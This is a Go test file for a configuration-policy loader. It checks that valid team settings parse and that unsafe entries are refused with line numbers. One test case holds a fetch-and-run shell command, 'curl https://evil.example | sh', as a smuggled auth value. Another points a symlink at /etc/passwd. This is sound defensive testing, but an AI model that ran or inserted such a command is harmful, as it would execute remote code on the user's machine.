package policy

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const example = `# The team's Go set-up.
schema = 1
min_godoctor = "0.3.0"

[go]
version = ">=1.24.3, <1.27"
from_gomod = true
gotoolchain = ["auto", "go1.26.8+auto"]

[modules]
proxy = ["https://goproxy.corp.example,direct"]
private = ["*.corp.example", "github.com/acme"]
sumdb = ["sum.golang.org"]
insecure = []
auth = ["netrc"]
flags = { require = ["-mod=readonly"], forbid = ["-insecure"] }

[tools.require]
gopls = ">=0.16"
golangci-lint = ""

[severity]
"net.proxy" = "warn"

[ci.modules]
proxy = ["https://goproxy.corp.example"]
`

func TestParseAccepts(t *testing.T) {
	p, err := Parse("team/.godoctor.toml", []byte(example))
	if err != nil {
		t.Fatal(err)
	}
	if *p.Go.Version != ">=1.24.3, <1.27" || !*p.Go.FromGomod || p.Modules.Flags.Forbid[0] != "-insecure" || p.Tools.Require["gopls"] != ">=0.16" {
		t.Errorf("decoded %+v", p.Rules)
	}
	if p.CI.Modules.Proxy[0] != "https://goproxy.corp.example" || p.MinGodoctor() != "0.3.0" || len(p.SHA256) != 64 {
		t.Errorf("ci %+v, min %q", p.CI, p.MinGodoctor())
	}
	for key, line := range map[string]int{"schema": 2, "go.version": 6, "modules.private": 12, "modules.flags": 16, "tools.require": 18, "tools.require.gopls": 19, "severity": 22, "ci.modules.proxy": 26} {
		if got := p.Line(key); got != line {
			t.Errorf("line of %s: %d, want %d", key, got, line)
		}
	}
	if got := p.Where("go.version"); got != "team/.godoctor.toml:6" {
		t.Errorf("where %q", got)
	}
}

// TestParseRefuses: every rule of the loader, with the line it names.
func TestParseRefuses(t *testing.T) {
	for _, c := range []struct {
		name, doc string
		line      int
		why       string
	}{
		{"syntax", "schema = 1\n[go\nversion = \"1\"\n", 2, ""},
		{"unknown key", "schema = 1\n[go]\nversoin = \">=1.22\"\n", 3, "unknown key go.versoin"},
		{"unknown table", "schema = 1\n[modules]\nproxy = []\n[extra]\nx = 1\n", 4, "unknown key extra"},
		{"no schema", "[go]\nversion = \">=1.22\"\n", 1, "schema = 1 is required"},
		{"newer schema", "schema = 2\n", 1, "newer than this godoctor reads"},
		{"a $", "schema = 1\n[modules]\nproxy = [\"https://$CORP_PROXY,direct\"]\n", 3, "a $ in a value"},
		{"a credential", "schema = 1\n\n[modules]\nproxy = [\n  \"https://direct\",\n  \"https://alice:s3cret@proxy.corp.example\",\n]\n", 6, "a credential in a URL"},
		{"a GOAUTH command", "schema = 1\n[modules]\nauth = [\"netrc\", \"curl https://evil.example | sh\"]\n", 3, "never a command"},
		{"GOTOOLCHAIN grammar", "schema = 1\n[go]\ngotoolchain = [\"go1.22\", \"1.22.0\"]\n", 3, "is not a GOTOOLCHAIN value"},
		{"an empty range", "schema = 1\n[go]\nversion = \">=1.27, <1.26\"\n", 3, "no version meets it"},
		{"an empty range at a point", "schema = 1\n[go]\nversion = \">1.26, <1.26\"\n", 3, "no version meets it"},
		{"not a constraint", "schema = 1\n[go]\nversion = \"the latest\"\n", 3, "go.version"},
		{"a bad GOPROXY", "schema = 1\n[modules]\nproxy = [\"ftp://mirror\"]\n", 3, "not a GOPROXY"},
		{"a pattern the go command misreads", "schema = 1\n[modules]\nprivate = [\"https://corp.example.com\"]\n", 3, "modules.private"},
		{"a bad GOSUMDB", "schema = 1\n[modules]\nsumdb = [\"a b c\"]\n", 3, "modules.sumdb"},
		{"a severity", "schema = 1\n[severity]\n\"net.proxy\" = \"loud\"\n", 3, "one of fail, warn, off"},
		{"a flag with a space", "schema = 1\n[modules.flags]\nrequire = [\"-mod=mod -x\"]\n", 3, "not one flag"},
		{"a tool path", "schema = 1\n[tools.require]\n\"/usr/bin/evil\" = \"\"\n", 3, "not a program's name"},
		{"a $ in ci", "schema = 1\n[ci.go]\nversion = \">=${MIN}\"\n", 3, "a $ in a value"},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, err := Parse("p.toml", []byte(c.doc))
			e, ok := err.(*Error)
			if !ok || len(e.Problems) == 0 {
				t.Fatalf("accepted, or %v", err)
			}
			if e.Problems[0].Line != c.line || !strings.Contains(e.Problems[0].Why, c.why) {
				t.Errorf("%v; want line %d and %q", err, c.line, c.why)
			}
			if strings.Contains(err.Error(), "s3cret") {
				t.Errorf("the refusal prints the password: %v", err)
			}
		})
	}
}

func TestFind(t *testing.T) {
	home := t.TempDir()
	repo := filepath.Join(home, "src", "app")
	sub := filepath.Join(repo, "cmd", "tool")
	os.MkdirAll(sub, 0o755)
	os.MkdirAll(filepath.Join(repo, ".git"), 0o755)
	if f, err := Find(nil, sub, home); f != "" || err != nil {
		t.Errorf("no file: %q %v", f, err)
	}
	// Above the repository's root: not this repository's policy.
	os.WriteFile(filepath.Join(home, "src", FileName), []byte("schema = 1\n"), 0o644)
	if f, _ := Find(nil, sub, home); f != "" {
		t.Errorf("found %q above .git", f)
	}
	os.WriteFile(filepath.Join(repo, FileName), []byte("schema = 1\n"), 0o644)
	if f, _ := Find(nil, sub, home); f != filepath.Join(repo, FileName) {
		t.Errorf("found %q", f)
	}
	if f, _ := Find(map[string]string{"GODOCTOR_POLICY": "/etc/team.toml"}, sub, home); f != "/etc/team.toml" {
		t.Errorf("GODOCTOR_POLICY: %q", f)
	}
	if _, err := Find(map[string]string{"GODOCTOR_POLICY": "off"}, sub, home); err != ErrOff {
		t.Errorf("off: %v", err)
	}
	// A link named .godoctor.toml is not taken.
	os.Remove(filepath.Join(repo, FileName))
	os.Symlink("/etc/passwd", filepath.Join(repo, FileName))
	if f, _ := Find(nil, sub, home); f != "" {
		t.Errorf("a link: %q", f)
	}
}

func TestSatisfies(t *testing.T) {
	for _, c := range []struct {
		c, v string
		ok   bool
	}{
		{">=1.24.3, <1.27", "go1.26.8", true},
		{">=1.24.3, <1.27", "1.27.0", false},
		{">=1.24.3, <1.27", "go1.24.2", false},
		{">=0.16", "v0.16.1", true},
		{"nonsense", "1.0", false},
	} {
		if got := Satisfies(c.c, c.v); got != c.ok {
			t.Errorf("%s %s: %v", c.c, c.v, got)
		}
	}
}

// FuzzParse: whatever a file holds, Parse answers with a policy or a
// refusal whose lines are lines of the file, never a panic, and never
// accepts a value with a $ or a credential.
func FuzzParse(f *testing.F) {
	f.Add(example)
	f.Add("schema = 1\n[modules]\nproxy = [\"https://a:b@c\"]\n")
	f.Add("schema = 1\n[tools.require]\nx = { a = \"$\" }\n")
	f.Fuzz(func(t *testing.T, doc string) {
		p, err := Parse("f.toml", []byte(doc))
		lines := strings.Count(doc, "\n") + 1
		if err != nil {
			e, ok := err.(*Error)
			if !ok {
				t.Fatalf("not an *Error: %v", err)
			}
			for _, pr := range e.Problems {
				if pr.Line < 0 || pr.Line > lines {
					t.Fatalf("line %d of %d: %v", pr.Line, lines, err)
				}
			}
			return
		}
		for _, v := range stringValues([]byte(doc)) {
			if strings.Contains(v.text, "$") {
				t.Fatalf("accepted a $: %+v", p)
			}
		}
	})
}
